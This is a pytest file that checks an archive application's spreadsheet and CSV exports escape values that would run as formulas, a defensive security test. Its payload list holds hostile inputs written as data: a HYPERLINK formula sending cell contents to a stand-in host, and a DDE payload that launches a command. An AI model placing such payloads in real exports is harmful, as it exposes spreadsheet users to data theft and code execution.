"""No exported cell starts with a character that makes a spreadsheet run it as a formula
(CSV injection): such a value goes out with one leading apostrophe, which the importer
takes off again."""

from __future__ import annotations

import csv
import io
import zipfile

import pytest

from irum.archive import services
from irum.exchange.exporter import neutralise, workbook_export
from irum.exchange.formats import FORMULA_TRIGGERS, xlsx_unescape

PAYLOADS = [
    '=HYPERLINK("http://example.invalid/?"&A1,"open")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "'=1+1",
]


@pytest.fixture
def hostile_archive(actor):
    for i, payload in enumerate(PAYLOADS):
        case = services.case_create(
            actor=actor,
            ref=f"{payload[0]}C-{i}",
            title=payload,
            summary_public=payload,
            narrative_restricted=payload,
        )
        person = services.person_create(
            actor=actor,
            ref=f"{payload[0]}P-{i}",
            case=case,
            pseudonym=payload,
            full_name=payload,
            full_name_ko=payload,
            aliases=payload,
        )
        source = services.source_create(
            actor=actor, ref=f"{payload[0]}S-{i}", content_restricted=payload
        )
        services.event_record(
            actor=actor,
            person=person,
            kind="sighting",
            description_public=payload,
            description_restricted=payload,
            sources=[source],
        )


def _csv_cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def _cells(path) -> list[str]:
    if path.suffix == ".xlsx":
        import openpyxl

        book = openpyxl.load_workbook(path, read_only=True)
        cells = []
        for ws in book.worksheets:
            for row in ws.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", cell.value
                    # As the importer reads it: CR is stored escaped, as Excel does.
                    cells.append(xlsx_unescape("" if cell.value is None else str(cell.value)))
        book.close()
        return cells
    if path.suffix == ".zip":
        with zipfile.ZipFile(path) as archive:
            texts = [archive.read(n).decode("utf-8-sig") for n in archive.namelist()]
    else:
        texts = [f.read_bytes().decode("utf-8-sig") for f in sorted(path.iterdir())]
    return [cell for text in texts for cell in _csv_cells(text)]


@pytest.mark.parametrize("name", ["export", "export.zip", "export.xlsx"])
def test_it_never_writes_a_cell_that_starts_like_a_formula(hostile_archive, actor, tmp_path, name):
    path = workbook_export(actor=actor, path=tmp_path / name, include_restricted=True).path

    cells = _cells(path)

    assert len(cells) > 8 * 20
    assert [c for c in cells if c and c[0] in FORMULA_TRIGGERS] == []
    # Each payload went out once per text column, marked as text, and whole.
    for payload in PAYLOADS:
        assert cells.count("'" + payload) >= 10, payload


def test_it_marks_a_value_with_exactly_one_apostrophe():
    assert neutralise("=1+1") == "'=1+1"
    assert neutralise("'=1+1") == "''=1+1"
    assert neutralise("'quoted'") == "''quoted'"
    assert neutralise("plain =1+1") == "plain =1+1"
    assert neutralise("") == ""
    assert neutralise("김=1") == "김=1"


def test_it_marks_a_ref_that_starts_like_a_formula(hostile_archive, actor, tmp_path):
    path = workbook_export(actor=actor, path=tmp_path / "export", include_restricted=True).path

    rows = list(
        csv.DictReader(
            io.StringIO((path / "events.csv").read_bytes().decode("utf-8-sig"), newline="")
        )
    )

    assert {r["person_ref"] for r in rows} == {f"'{p[0]}P-{i}" for i, p in enumerate(PAYLOADS)}
    assert {r["source_refs"] for r in rows} == {f"'{p[0]}S-{i}" for i, p in enumerate(PAYLOADS)}
